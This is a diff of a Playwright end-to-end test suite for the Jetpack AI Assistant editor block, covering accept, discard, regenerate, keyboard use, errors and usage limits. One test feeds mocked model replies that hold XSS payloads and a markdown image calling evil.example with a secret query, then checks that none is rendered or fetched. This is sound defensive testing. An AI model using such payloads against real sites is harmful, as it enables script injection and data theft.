@@ -1,9 +1,10 @@
 import type { Page } from 'playwright-core';
 import { testSite } from '../support/site/site';
-import { findAssistant, openAssistant } from './support/assistant';
+import { findAssistant, insertAssistant, openAssistant } from './support/assistant';
 import { insertBlockByInserter, postHeading } from './support/controls';
 import {
 	editorCanvas,
+	emptyPost,
 	expectValidBlocks,
 	insertBlock,
 	listBlocks,
@@ -14,6 +15,7 @@ import {
 	savePost,
 	typeTitle,
 } from './support/editor';
+import { expectFocus, pressUntil } from './support/focus';
 import { journey } from './support/journey';
 
 const article = ['# Tomatoes', ' on a balcony\n\n', 'A pot, **some sun** ', 'and a little patience.\n\n', '- Water\n', '- Wait\n'];
@@ -21,6 +23,9 @@ const article = ['# Tomatoes', ' on a balcony\n\n', 'A pot, **some sun** ', 'and
 const undo = (page: Page) => page.evaluate(() => (window as unknown as { wp: { data: { dispatch: (s: string) => { undo: () => unknown } } } }).wp.data.dispatch('core/editor').undo());
 
 const blockNames = async (page: Page) => (await listBlocks(page)).map(({ name }) => name);
+
+/** The name of the prompt input. */
+const prompt = 'Ask the AI Assistant';
 
 const postIsSaved = (page: Page) => savePost(page);
 
@@ -55,63 +60,129 @@ describe('writing a post with the AI Assistant', () => {
 		await visitor.locator('strong', { hasText: 'some sun' }).waitFor();
 	});
 
-	journey('leaves the title of a titled post alone', 'administrator', async ({ page }) => {
+	journey('keeps what came when it is stopped, and is accepted, discarded and refused as a person asks', 'administrator', async ({ page }) => {
+		await openEditor(page);
+
+		// The title of a titled post stays.
 		await testSite.model.replyWith({ chunks: article });
-		const assistant = await openAssistant(page);
+		let assistant = await insertAssistant(page);
 		await typeTitle(page, 'My own title');
 		await assistant.ask('Write a post about tomatoes');
 		await assistant.button('Accept').click();
 		expect(await postTitle(page)).toBe('My own title');
 		expect(await blockNames(page)).toEqual(['core/heading', 'core/paragraph', 'core/list']);
-	});
 
-	journey('stops with Esc, keeps what came, and regenerates without losing it', 'administrator', async ({ page }) => {
+		// Regenerate keeps the text until the next has begun.
+		await emptyPost(page);
 		await testSite.model.replyWith({ chunks: ['One ', 'two ', 'three '], stallAfter: 2 });
-		const assistant = await openAssistant(page);
+		assistant = await insertAssistant(page);
 		await assistant.ask('Count');
 		await assistant.text.getByText('One two').waitFor();
 		await assistant.input.press('Escape');
 		await assistant.button('Accept').waitFor();
 		expect((await assistant.text.innerText()).trim()).toBe('One two');
-
 		await testSite.model.replyWith({ chunks: ['Four ', 'five'], firstDelayMs: 1500 });
 		await assistant.button('Regenerate').click();
 		await assistant.button('Stop').waitFor();
 		expect((await assistant.text.innerText()).trim()).toBe('One two');
 		await assistant.text.getByText('Four five').waitFor();
-	});
 
-	journey('accepts with the keyboard', 'administrator', async ({ page }) => {
-		const assistant = await openAssistant(page);
-		await assistant.ask('Say hello');
-		await assistant.button('Accept').waitFor();
-		await assistant.input.press('ControlOrMeta+Enter');
-		await (await editorCanvas(page)).getByText('Hello from the model.').waitFor();
-		expect(await blockNames(page)).toEqual(['core/paragraph']);
-	});
-
-	journey('discards back to an empty prompt', 'administrator', async ({ page }) => {
-		const assistant = await openAssistant(page);
-		await assistant.ask('Say hello');
+		// Discard leads back to the prompt.
 		await assistant.button('Discard').click();
 		await assistant.text.waitFor({ state: 'detached' });
-		expect(await assistant.input.inputValue()).toBe('Say hello');
-	});
+		expect(await assistant.input.inputValue()).toBe('Count');
 
-	journey('cannot send an empty prompt', 'administrator', async ({ page }) => {
+		// An empty prompt cannot be sent.
+		await emptyPost(page);
 		await testSite.model.forgetRequests();
-		const assistant = await openAssistant(page);
+		assistant = await insertAssistant(page);
 		expect(await assistant.button('Send').isDisabled()).toBe(true);
 		await assistant.ask('   ');
 		expect(await assistant.button('Stop').count()).toBe(0);
 		expect(await testSite.model.requests()).toEqual([]);
+
+		// A generated title becomes the title of the post.
+		await emptyPost(page);
+		await insertBlock(page, 'core/paragraph', { content: 'Tomatoes need sun.' });
+		assistant = await insertAssistant(page);
+		await testSite.model.replyWith({ chunks: ['"Sun for ', 'tomatoes"'] });
+		// The editor hides the toolbar while a person types, until the pointer moves.
+		await page.mouse.move(500, 400, { steps: 5 });
+		await page.getByRole('button', { name: 'Write with AI' }).click();
+		await page.getByRole('menuitem', { name: 'Generate a title' }).click();
+		await assistant.button('Accept title').click();
+		expect(await postTitle(page)).toBe('Sun for tomatoes');
+		expect(await blockNames(page)).toEqual(['core/paragraph']);
 	});
 
-	journey('shows HTML and scripts in an answer as text, in the editor and on the page', 'administrator', async ({ page, pageOf }) => {
-		const hostile = '<img src=x onerror="window.hacked=1"> <script>window.hacked=1</script> [link](javascript:window.hacked=1)';
-		await testSite.model.replyWith({ chunks: ['Look: ', hostile] });
+	journey('is written, stopped, changed, translated, accepted and undone by keyboard alone', 'administrator', async ({ page }) => {
+		await testSite.model.replyWith({ chunks: ['One ', 'two ', 'three '], stallAfter: 2 });
 		const assistant = await openAssistant(page);
+		await expectFocus(page, prompt);
+		await page.keyboard.type('Count');
+		await page.keyboard.press('Enter');
+		await assistant.text.getByText('One two').waitFor();
+		await page.keyboard.press('Escape');
+		await assistant.button('Accept').waitFor();
+		await expectFocus(page, prompt);
+
+		await testSite.model.replyWith({ chunks: ['Uno ', 'dos'] });
+		for (const [menu, choice] of [['Change tone', 'Informal'], ['Translate', 'Spanish']] as const) {
+			await page.keyboard.press('Alt+F10');
+			await pressUntil(page, 'ArrowRight', 'Improve the text');
+			await page.keyboard.press('Enter');
+			await expectFocus(page, 'Summarize');
+			await pressUntil(page, 'ArrowDown', menu);
+			await page.keyboard.press('Enter');
+			await expectFocus(page, 'Back');
+			await page.keyboard.press('Escape');
+			await expectFocus(page, menu);
+			await page.keyboard.press('Enter');
+			await pressUntil(page, 'ArrowDown', choice);
+			await page.keyboard.press('Enter');
+			await expectFocus(page, prompt);
+			await assistant.text.getByText('Uno dos').waitFor();
+			await assistant.button('Accept').waitFor();
+		}
+		expect(JSON.stringify(await testSite.model.requests())).toMatch(/informal.*Spanish/s);
+
+		await page.keyboard.press('ControlOrMeta+Enter');
+		await (await editorCanvas(page)).getByText('Uno dos').waitFor();
+		expect(await blockNames(page)).toEqual(['core/paragraph']);
+		await page.keyboard.type('!');
+		await (await editorCanvas(page)).getByText('Uno dos!').waitFor();
+		await page.keyboard.press('ControlOrMeta+z');
+		await page.keyboard.press('ControlOrMeta+z');
+		await assistant.text.getByText('Uno dos').waitFor();
+		expect(await blockNames(page)).toEqual(['jetpack/ai-assistant']);
+	});
+
+	journey('keeps a suggestion over a reload, and shows what is hostile in an answer as text and links', 'administrator', async ({ page, pageOf }) => {
+		let assistant = await openAssistant(page);
+		await assistant.ask('Say hello');
+		await assistant.button('Accept').waitFor();
+		await savePost(page);
+		await reloadEditor(page);
+		assistant = await findAssistant(page);
+		await assistant.text.getByText('Hello from the model.').waitFor();
+		await assistant.button('Accept').click();
+		expect(await blockNames(page)).toEqual(['core/paragraph']);
+
+		await emptyPost(page);
+		const fetched: string[] = [];
+		page.on('request', (request) => fetched.push(request.url()));
+		const hostile = '<img src=x onerror="window.hacked=1"> <script>window.hacked=1</script> [link](javascript:window.hacked=1)';
+		await testSite.model.replyWith({ chunks: ['Look: ', hostile, ' ![a cat](https://evil.example/p.png?draft=secret)'] });
+		assistant = await insertAssistant(page);
 		await assistant.ask('Break it');
+		await assistant.text.getByRole('link', { name: 'a cat' }).waitFor();
+		await assistant.button('Accept').waitFor();
+		expect(fetched.filter((url) => url.includes('evil.example'))).toEqual([]);
+		expect(await assistant.text.locator('img').count()).toBe(0);
+
+		await testSite.model.replyWith({ chunks: ['Look: ', hostile] });
+		await assistant.button('Regenerate').click();
+		await assistant.text.getByRole('link', { name: 'a cat' }).waitFor({ state: 'detached' });
 		await assistant.button('Accept').click();
 		await typeTitle(page, 'Hostile');
 		await savePost(page);
@@ -123,86 +194,86 @@ describe('writing a post with the AI Assistant', () => {
 		expect(await visitor.locator('.entry-content script, .entry-content img, .entry-content a').count()).toBe(0);
 		await visitor.getByText('window.hacked=1').first().waitFor();
 	});
-
-	journey('keeps a finished suggestion over save and reload', 'administrator', async ({ page }) => {
-		const assistant = await openAssistant(page);
-		await assistant.ask('Say hello');
-		await assistant.button('Accept').waitFor();
-		await savePost(page);
-		await reloadEditor(page);
-		const again = await findAssistant(page);
-		await again.text.getByText('Hello from the model.').waitFor();
-		await again.button('Accept').click();
-		expect(await blockNames(page)).toEqual(['core/paragraph']);
-	});
-
-	journey('takes a generated title as the title of the post', 'administrator', async ({ page }) => {
-		await openEditor(page);
-		await insertBlock(page, 'core/paragraph', { content: 'Tomatoes need sun.' });
-		await insertBlock(page, 'jetpack/ai-assistant');
-		const assistant = await findAssistant(page);
-		await assistant.input.waitFor();
-		await testSite.model.replyWith({ chunks: ['"Sun for ', 'tomatoes"'] });
-		await page.getByRole('button', { name: 'Write with AI' }).click();
-		await page.getByRole('menuitem', { name: 'Generate a title' }).click();
-		await assistant.button('Accept title').click();
-		expect(await postTitle(page)).toBe('Sun for tomatoes');
-		expect(await blockNames(page)).toEqual(['core/paragraph']);
-	});
 });
 
-describe('the AI tools of a paragraph', () => {
-	journey('write in its place, and Undo brings it back as it was', 'administrator', async ({ page }) => {
-		await openEditor(page);
-		await insertBlock(page, 'core/paragraph', { content: 'Some <strong>bold</strong> words.', className: 'mine' });
-		const before = await listBlocks(page);
-		await page.getByRole('button', { name: 'AI Assistant' }).click();
-		await page.getByRole('menuitem', { name: 'Make longer' }).click();
-		const assistant = await findAssistant(page);
-		await assistant.text.getByText('Hello from the model.').waitFor();
-		await assistant.button('Undo').click();
-		const after = await listBlocks(page);
-		expect(after.map(({ name, attributes }) => ({ name, attributes }))).toEqual(before.map(({ name, attributes }) => ({ name, attributes })));
-	});
-
-	journey('are disabled with a note while it is empty', 'administrator', async ({ page }) => {
+describe('the AI tools of a text block', () => {
+	journey('write in its place by keyboard, keep its level, and Discard and Undo bring it back as it was', 'administrator', async ({ page }) => {
 		await openEditor(page);
 		await insertBlock(page, 'core/heading');
 		await page.getByRole('button', { name: 'AI Assistant' }).click();
 		await page.getByText('Add content to activate the tools below').waitFor();
-		expect(await page.getByRole('menuitem', { name: 'Summarize' }).isDisabled()).toBe(true);
+		expect(await page.getByRole('menuitem', { name: 'Summarize' }).getAttribute('aria-disabled')).toBe('true');
+		await page.keyboard.press('Escape');
+		await expectFocus(page, 'AI Assistant');
+
+		await emptyPost(page);
+		const content = 'Some <strong>bold</strong> <a href="https://example.com/">link</a>';
+		await insertBlock(page, 'core/heading', { content, level: 3, className: 'mine' });
+		const plain = async () => (await listBlocks(page)).map(({ name, attributes }) => ({ name, attributes }));
+		const before = await plain();
+		const makeLonger = async () => {
+			// After Undo no block is selected.
+			await (await editorCanvas(page)).getByText('bold').click();
+			await page.getByRole('button', { name: 'AI Assistant' }).focus();
+			await page.keyboard.press('Enter');
+			await expectFocus(page, 'Summarize');
+			await pressUntil(page, 'ArrowDown', 'Make longer');
+			await page.keyboard.press('Enter');
+			const assistant = await findAssistant(page);
+			await assistant.text.getByText('Hello from the model.').waitFor();
+			await expectFocus(page, prompt);
+			return assistant;
+		};
+
+		await testSite.model.forgetRequests();
+		await (await makeLonger()).button('Discard').click();
+		expect(await plain()).toEqual(before);
+		expect(JSON.stringify(await testSite.model.requests())).toContain('### Some **bold** [link](https://example.com/)');
+
+		await makeLonger();
+		await undo(page);
+		await undo(page);
+		expect(await plain()).toEqual(before);
+
+		await (await makeLonger()).button('Accept').click();
+		expect(await plain()).toMatchObject([{ name: 'core/heading', attributes: { level: 3, className: 'mine', content: 'Hello from the model.' } }]);
+		await undo(page);
+		await undo(page);
+		await undo(page);
+		expect(await plain()).toEqual(before);
 	});
 });
 
 describe('when something goes wrong', () => {
-	journey('a flagged request says so, keeps the prompt and offers no retry', 'administrator', async ({ page, console }) => {
+	journey('an error says what to do, and costs neither prompt nor text', 'administrator', async ({ page, console }) => {
+		await openEditor(page);
+
 		console.allow(/status of 422/);
 		await testSite.model.replyWith({ status: 400, error: { code: 'content_filter', message: 'Flagged' } });
-		const assistant = await openAssistant(page);
+		let assistant = await insertAssistant(page);
 		await assistant.ask('Something bad');
 		await assistant.canvas
 			.getByText('Error: This request has been flagged by our moderation system. Please try to rephrase it and try again.')
 			.waitFor();
 		expect(await assistant.input.inputValue()).toBe('Something bad');
 		expect(await assistant.button('Try again').count()).toBe(0);
-	});
 
-	journey('a service that is down can be asked again', 'administrator', async ({ page, console }) => {
+		await emptyPost(page);
 		console.allow(/status of 503/);
 		await testSite.model.replyWith({ status: 500, error: { code: 'server_error', message: 'Down' } });
-		const assistant = await openAssistant(page);
+		assistant = await insertAssistant(page);
 		await assistant.ask('Say hello');
 		await assistant.canvas.getByText('Error: Jetpack AI services are currently unavailable. Sorry for the inconvenience.').waitFor();
 		await testSite.model.replyWith();
 		await assistant.button('Try again').click();
 		await assistant.text.getByText('Hello from the model.').waitFor();
-	});
 
-	journey('a line lost in mid-stream is taken up again, and every word comes once', 'administrator', async ({ page, console }) => {
+		// Each word comes once where a connection is lost.
+		await emptyPost(page);
 		console.allow(/ERR_CONNECTION|ERR_INCOMPLETE_CHUNKED_ENCODING|ERR_NETWORK/);
 		const words = Array.from({ length: 30 }, (_, index) => `word${index} `);
 		await testSite.model.replyWith({ chunks: words, delayMs: 100 });
-		const assistant = await openAssistant(page);
+		assistant = await insertAssistant(page);
 		await assistant.ask('Count words');
 		await assistant.text.getByText('word3').waitFor();
 		await testSite.platform.cutLines();
@@ -211,10 +282,13 @@ describe('when something goes wrong', () => {
 		expect((await assistant.text.innerText()).trim()).toBe(words.join('').trim());
 	});
 
-	journey('a platform that is killed in mid-stream costs neither prompt nor text', 'administrator', async ({ page, console }) => {
-		console.allow(/ERR_|status of 404/);
+	journey('a platform that ends or has no requests left costs neither prompt nor text', 'administrator', async ({ page, console }) => {
+		// The usage may be asked for just while the platform restarts with the smaller allowance.
+		console.allow(/ERR_|status of (404|429|503)/);
 		await testSite.model.replyWith({ chunks: ['So ', 'far ', 'so ', 'good'], stallAfter: 2 });
-		const assistant = await openAssistant(page);
+		const usage = page.waitForResponse(/ai-assistant-feature/);
+		let assistant = await openAssistant(page);
+		await usage;
 		await assistant.ask('Tell me');
 		await assistant.text.getByText('So far').waitFor();
 		await testSite.platform.kill();
@@ -225,18 +299,14 @@ describe('when something goes wrong', () => {
 		await testSite.model.replyWith();
 		await assistant.button('Try again').click();
 		await assistant.text.getByText('Hello from the model.').waitFor();
-	});
 
-	journey('a used-up allowance shows the upgrade and disables the input', 'administrator', async ({ page, console }) => {
-		// The usage may be asked for just while the platform restarts with the smaller allowance.
-		console.allow(/status of (429|503)/);
-		const usage = page.waitForResponse(/ai-assistant-feature/);
-		const assistant = await openAssistant(page);
-		await usage;
+		await emptyPost(page);
 		await testSite.platform.start({ TIERS: JSON.stringify([{ slug: 'ai-assistant-tier-free', value: 0, limit: 0 }]) });
 		try {
+			assistant = await insertAssistant(page);
 			await assistant.ask('One more');
-			await assistant.canvas.getByRole('link', { name: /Upgrade|Contact Us/ }).waitFor();
+			await assistant.canvas.getByRole('link', { name: /^(Upgrade|Contact Us)$/ }).waitFor();
+			await assistant.canvas.getByText('You have 0 requests remaining.').waitFor();
 			expect(await assistant.input.isDisabled()).toBe(true);
 			expect(await assistant.input.inputValue()).toBe('One more');
 			expect(await assistant.canvas.getByText(/^Error:/).count()).toBe(0);
